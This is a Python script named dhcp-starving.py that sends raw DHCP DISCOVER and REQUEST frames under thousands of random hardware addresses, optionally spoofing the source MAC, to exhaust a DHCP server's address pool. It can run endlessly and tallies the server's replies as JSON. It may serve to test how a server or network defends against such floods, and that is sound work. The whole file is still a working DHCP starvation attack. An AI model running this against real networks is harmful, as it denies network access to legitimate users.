"""Asks for a lease under thousands of names, as a guest does that wants all addresses of its network.

dhcp-starving.py COUNT own       each under a hardware address and a client identifier of its own, in frames from the card's address;
                                 each DISCOVER and the REQUEST for what was offered, or for any other address, waits for its answer
dhcp-starving.py COUNT foreign   in frames from those hardware addresses
dhcp-starving.py 0 own           as above until it is killed; prints "asking" when it has been answered first

Prints as JSON how many answers of which type there were for which address: {"OFFER 10.0.0.7": 1000}.
"""

import collections
import itertools
import json
import os
import socket
import struct
import sys
import time

count, source = int(sys.argv[1]), sys.argv[2]
card = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
card.bind(("eth0", 0))
own = card.getsockname()[4]
DISCOVER, OFFER, REQUEST, ACK, NAK = 1, 2, 3, 5, 6
names = {OFFER: "OFFER", ACK: "ACK", NAK: "NAK"}
answers = collections.Counter()


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ask(xid, mac, kind, options=b""):
    dhcp = struct.pack("!BBBBIHH", 1, 1, 6, 0, xid, 0, 0x8000) + bytes(16) + mac + bytes(10 + 192)
    dhcp += b"\x63\x82\x53\x63" + bytes([53, 1, kind, 61, 7, 1]) + mac + options + b"\xff"
    udp = struct.pack("!HHHH", 68, 67, 8 + len(dhcp), 0) + dhcp
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + bytes(4) + b"\xff" * 4
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    card.send(b"\xff" * 6 + (own if source == "own" else mac) + b"\x08\x00" + ip + udp)


def option(dhcp, code):
    at = 240
    while at + 1 < len(dhcp) and dhcp[at] != 255:
        if dhcp[at] == code:
            return dhcp[at + 2 : at + 2 + dhcp[at + 1]]
        at += 2 + dhcp[at + 1]
    return b"\0"


def take(wait, xid=None):
    """Counts what is answered, until the answer to this question, or for so many seconds; answers the address in it."""
    until = time.monotonic() + wait
    while (left := until - time.monotonic()) > 0:
        card.settimeout(left)
        try:
            frame = card.recv(2048)
        except socket.timeout:
            return None
        if frame[12:14] != b"\x08\x00" or frame[23] != 17 or frame[34:38] != b"\x00\x43\x00\x44":
            continue
        dhcp = frame[42:]
        address = dhcp[16:20]
        answers[f"{names.get(option(dhcp, 53)[0], '?')} {socket.inet_ntoa(address)}"] += 1
        if struct.unpack("!I", dhcp[4:8])[0] == xid:
            return address


def requested(address):
    return bytes([50, 4]) + address


for n in itertools.count() if count == 0 else range(count):
    mac = b"\x02" + os.urandom(5)
    ask(2 * n, mac, DISCOVER)
    if source == "foreign":
        continue
    offered = take(20, 2 * n)
    wish = offered if offered and n % 2 == 0 else b"\x0a\x01\x00" + bytes([n % 200 + 20])
    ask(2 * n + 1, mac, REQUEST, requested(wish))
    take(20, 2 * n + 1)
    if count == 0 and n == 0:
        print("asking", flush=True)
if source == "foreign":
    take(2)
print(json.dumps(answers, sort_keys=True))
